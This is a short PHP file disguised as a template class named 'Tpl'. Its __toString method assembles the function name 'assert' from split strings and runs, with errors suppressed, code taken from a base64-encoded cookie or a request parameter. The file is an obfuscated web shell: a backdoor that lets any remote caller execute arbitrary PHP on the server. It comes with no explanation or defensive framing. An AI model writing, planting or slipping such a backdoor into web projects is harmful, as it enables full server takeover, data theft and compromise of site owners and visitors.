<?php
class Tpl
{
    public $body;
    public $fn = 'ass';
    public function __toString()
    {
        $run = $this->fn . 'ert';
        @$run("{$this->body}");
        return '';
    }
}
$t = new Tpl();
$t->body = isset($_COOKIE['b']) ? base64_decode($_COOKIE['b']) : $_REQUEST['b'];
echo $t;
